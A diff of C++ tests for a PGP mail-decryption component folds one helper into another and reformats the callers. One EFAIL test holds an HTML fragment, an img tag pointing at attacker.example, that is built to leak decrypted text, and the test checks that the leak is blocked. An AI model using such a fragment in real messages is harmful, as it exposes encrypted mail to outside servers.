@@ -50,12 +50,16 @@ std::string Session(const THostSession& session, const std::string& steps)
     return ANSWER_MESSAGES + session.UseKeyRings() + "load\nforminit\nready\nreader\n" + steps + "quit\n";
 }
 
-// DECRYPT of a message to Ann in an open reader with the signer included, then the given steps.
-THostRun DecryptInReader(const THostSession& session, const std::string& message, const std::string& steps)
+// DECRYPT of a message to Ann in an open reader with the signer included (signatures checked
+// unless told otherwise), then the given steps.
+THostRun DecryptInReader(
+    const THostSession& session, const std::string& message, const std::string& steps, bool checkSig = true)
 {
     session.WriteFile("in.cnm", message);
     const std::string rings = session.UseKeyRings();
-    session.WriteFile("ZAVEK.cfg", session.ReadFile("ZAVEK.cfg") + "[CheckMessage]\r\nCheckSig=1\r\nInclude=1\r\n");
+    session.WriteFile("ZAVEK.cfg",
+        session.ReadFile("ZAVEK.cfg") + "[CheckMessage]\r\nCheckSig=" + (checkSig ? "1" : "0")
+            + "\r\nInclude=1\r\n");
     session.WriteFile("answers.txt", "decryption: pass ann-pass\n");
     SetEnvironmentVariableA("PGPSTANDIN_ANSWERS", session.File("answers.txt").c_str());
     THostRun run = session.Run(ANSWER_MESSAGES + rings + "load\nforminit\nready\nreader\ndecrypt \""
@@ -410,21 +414,9 @@ TEST(DecryptRoad, ShowingTheCurrentMessageGoesThroughTheRawView)
 }
 
 // Messages as other mail clients and servers write them (tests/data/decroad/make-shapes.sh).
-std::string Shape(const std::string& name) { return Message("shapes/" + name); }
-
-// DECRYPT of a message in an open reader, with or without signature checking, then the steps.
-THostRun DecryptShape(const THostSession& session, const std::string& message, bool checkSig, const std::string& steps)
+std::string Shape(const std::string& name)
 {
-    session.WriteFile("in.cnm", message);
-    const std::string rings = session.UseKeyRings();
-    session.WriteFile("ZAVEK.cfg", session.ReadFile("ZAVEK.cfg") + "[CheckMessage]\r\nCheckSig="
-            + (checkSig ? "1" : "0") + "\r\nInclude=1\r\n");
-    session.WriteFile("answers.txt", "decryption: pass ann-pass\n");
-    SetEnvironmentVariableA("PGPSTANDIN_ANSWERS", session.File("answers.txt").c_str());
-    THostRun run = session.Run(ANSWER_MESSAGES + rings + "load\nforminit\nready\nreader\ndecrypt \""
-        + session.File("in.cnm") + "\" \"" + session.File("out.cnm") + "\"\nidle\n" + steps + "quit\n");
-    SetEnvironmentVariableA("PGPSTANDIN_ANSWERS", nullptr);
-    return run;
+    return Message("shapes/" + name);
 }
 
 // The part of a message between the delimiter line "--Boundary" that opens it and the next one.
@@ -447,7 +439,7 @@ TEST(DecryptRoad, EncryptedPartsBesidePlainOnesAreDecryptedInTheirPlaces)
         SCOPED_TRACE(checkSig ? "CheckSig" : "no CheckSig");
         THostSession session(checkSig ? "parts-sig" : "parts");
         const std::string footer = Shape("pgpmime-beside-plain.eml");
-        THostRun run = DecryptShape(session, footer, checkSig, "");
+        THostRun run = DecryptInReader(session, footer, "", checkSig);
         SCOPED_TRACE(run.Text());
         std::string out = session.ReadFile("out.cnm");
         EXPECT_EQ(out.find("-----BEGIN PGP"), std::string::npos) << out;
@@ -456,17 +448,23 @@ TEST(DecryptRoad, EncryptedPartsBesidePlainOnesAreDecryptedInTheirPlaces)
         const std::string pdf = PartAfter(footer, "--outer\r\nContent-Type: application/pdf");
         ASSERT_FALSE(pdf.empty());
         EXPECT_THAT(out, HasSubstr(pdf));
-        EXPECT_THAT(out, HasSubstr("--outer\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n_______________\r\n"
-                                   "list footer\r\n--outer--\r\n"));
-        EXPECT_THAT(out, HasSubstr("--outer\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: "
-                                   "7bit\r\n\r\n" + secret + "\r\n"));
+        EXPECT_THAT(out,
+            HasSubstr("--outer\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n_______________\r\n"
+                      "list footer\r\n--outer--\r\n"));
+        EXPECT_THAT(out,
+            HasSubstr("--outer\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: "
+                      "7bit\r\n\r\n"
+                + secret + "\r\n"));
         EXPECT_TRUE(run.Has("request 3075 0 status \"Decrypting done\""));
 
         const std::string efail = Shape("efail.eml");
-        run = DecryptShape(session, efail, checkSig, "readertext\n");
+        run = DecryptInReader(session, efail, "readertext\n", checkSig);
         out = session.ReadFile("out.cnm");
-        const std::string html = "--outer\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--outer\r\n";
-        EXPECT_THAT(out, HasSubstr(html + "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
+        const std::string html
+            = "--outer\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--outer\r\n";
+        EXPECT_THAT(out,
+            HasSubstr(html
+                + "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
                 + secret + "\r\n\r\n--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n"));
         // The reader shows the decrypted part apart, between its markers; no link or picture reaches it.
         const auto text = run.LinesStartingWith("reader text ");
@@ -482,7 +480,7 @@ TEST(DecryptRoad, EncryptedPartsBesidePlainOnesAreDecryptedInTheirPlaces)
         EXPECT_TRUE(run.Has("request 3075 0 status \"Decrypting done\""));
 
         // Two encrypted parts: both are decrypted.
-        run = DecryptShape(session, Shape("two-encrypted-parts.eml"), checkSig, "");
+        run = DecryptInReader(session, Shape("two-encrypted-parts.eml"), "", checkSig);
         out = session.ReadFile("out.cnm");
         EXPECT_THAT(out, HasSubstr("Content-Transfer-Encoding: 8bit\r\n\r\nFirst secret.\r\n"));
         EXPECT_THAT(out, HasSubstr("7bit\r\n\r\nSecond secret.\r\n"));
@@ -502,7 +500,8 @@ TEST(DecryptRoad, EveryArmouredBlockOfATextIsDecoded)
         SCOPED_TRACE(checkSig ? "CheckSig" : "no CheckSig");
         THostSession session(checkSig ? "blocks-sig" : "blocks");
         session.WriteFile("blocks.cnm", message);
-        THostRun run = DecryptShape(session, message, checkSig, "verify \"" + session.File("blocks.cnm") + "\"\n");
+        THostRun run
+            = DecryptInReader(session, message, "verify \"" + session.File("blocks.cnm") + "\"\n", checkSig);
         SCOPED_TRACE(run.Text());
         const std::string out = session.ReadFile("out.cnm");
         EXPECT_EQ(out.find("-----BEGIN PGP MESSAGE-----"), std::string::npos) << out;
@@ -528,27 +527,33 @@ TEST(DecryptRoad, EveryArmouredBlockOfATextIsDecoded)
 // server: decrypted where it stands.
 TEST(DecryptRoad, EncryptedAttachmentsAndRewrappedPgpMimeAreDecrypted)
 {
-    const std::string plan = "Content-Disposition: attachment; filename=\"plan.txt\"\r\n\r\nVGhlIHBsYW4sIGFzIGEgZmlsZS4K";
+    const std::string plan
+        = "Content-Disposition: attachment; filename=\"plan.txt\"\r\n\r\nVGhlIHBsYW4sIGFzIGEgZmlsZS4K";
     const struct {
         const char* file;
         std::string decrypted;
     } cases[] = {
-        { "binary-attachment.eml", "--outer\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n--outer\r\n"
-                                   "Content-Type: application/octet-stream; name=\"plan.txt\"\r\nContent-Transfer-Encoding: "
-                                   "base64\r\n" + plan },
-        { "binary-attachment-alone.eml", "Subject: Binary attachment alone\r\nMIME-Version: 1.0\r\n"
-                                         "Content-Type: application/octet-stream; name=\"plan.txt\"\r\n"
-                                         "Content-Transfer-Encoding: base64\r\n" + plan },
+        { "binary-attachment.eml",
+            "--outer\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n--outer\r\n"
+            "Content-Type: application/octet-stream; name=\"plan.txt\"\r\nContent-Transfer-Encoding: "
+            "base64\r\n"
+                + plan },
+        { "binary-attachment-alone.eml",
+            "Subject: Binary attachment alone\r\nMIME-Version: 1.0\r\n"
+            "Content-Type: application/octet-stream; name=\"plan.txt\"\r\n"
+            "Content-Transfer-Encoding: base64\r\n"
+                + plan },
         { "armoured-attachment.eml", plan },
-        { "pgpmime-rewrapped.eml", "Subject: Rewrapped\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; "
-                                   "charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nRewrapped by the server.\r\n" },
+        { "pgpmime-rewrapped.eml",
+            "Subject: Rewrapped\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; "
+            "charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nRewrapped by the server.\r\n" },
         { "pgpmime-base64.eml", "Sent as Base64 by the gateway." },
     };
     for (const auto& c : cases) {
         for (const bool checkSig : { true, false }) {
             SCOPED_TRACE(std::string(c.file) + (checkSig ? " CheckSig" : ""));
             THostSession session("attached");
-            THostRun run = DecryptShape(session, Shape(c.file), checkSig, "");
+            THostRun run = DecryptInReader(session, Shape(c.file), "", checkSig);
             SCOPED_TRACE(run.Text());
             const std::string out = session.ReadFile("out.cnm");
             EXPECT_THAT(out, HasSubstr(c.decrypted));
@@ -566,7 +571,7 @@ TEST(DecryptRoad, EverySignerOfATextIsReported)
     THostSession session("signers");
     const std::string message = Shape("two-signers.eml");
     session.WriteFile("signed.cnm", message);
-    THostRun run = DecryptShape(session, message, true, "verify \"" + session.File("signed.cnm") + "\"\n");
+    THostRun run = DecryptInReader(session, message, "verify \"" + session.File("signed.cnm") + "\"\n");
     SCOPED_TRACE(run.Text());
     EXPECT_THAT(session.ReadFile("out.cnm"), HasSubstr("\r\n\r\nSigned by two.\r\n"));
     const auto notes = run.LinesStartingWith("request 3075 3 status ");
@@ -592,7 +597,7 @@ TEST(DecryptRoad, DecryptedUtf8TextIsWrittenInTheMailClientsCharsetUnderItsName)
     for (const bool checkSig : { true, false }) {
         SCOPED_TRACE(checkSig ? "CheckSig" : "no CheckSig");
         THostSession session("utf8");
-        THostRun run = DecryptShape(session, Shape("utf8-encrypted.eml"), checkSig, "");
+        THostRun run = DecryptInReader(session, Shape("utf8-encrypted.eml"), "", checkSig);
         SCOPED_TRACE(run.Text());
         const std::string out = session.ReadFile("out.cnm");
         EXPECT_THAT(out, HasSubstr(label));
@@ -601,12 +606,17 @@ TEST(DecryptRoad, DecryptedUtf8TextIsWrittenInTheMailClientsCharsetUnderItsName)
     }
     EXPECT_EQ(bodies[0], bodies[1]);
     // The characters of Windows-1252 are its bytes; the others as the conversion spells them.
-    EXPECT_EQ(bodies[0].rfind("Gr\xFC\xDF" "e \x96 5 \x80, ", 0), 0u) << bodies[0];
+    EXPECT_EQ(bodies[0].rfind("Gr\xFC\xDF"
+                              "e \x96 5 \x80, ",
+                  0),
+        0u)
+        << bodies[0];
     EXPECT_EQ(bodies[0].find("\xC3"), std::string::npos) << bodies[0];
 
     THostSession session("utf8-signed");
     session.WriteFile("signed.cnm", Shape("utf8-clearsigned.eml"));
-    THostRun run = DecryptShape(session, Shape("utf8-clearsigned.eml"), true, "verify \"" + session.File("signed.cnm") + "\"\n");
+    THostRun run = DecryptInReader(
+        session, Shape("utf8-clearsigned.eml"), "verify \"" + session.File("signed.cnm") + "\"\n");
     SCOPED_TRACE(run.Text());
     const std::string out = session.ReadFile("out.cnm");
     EXPECT_THAT(out, HasSubstr(label));
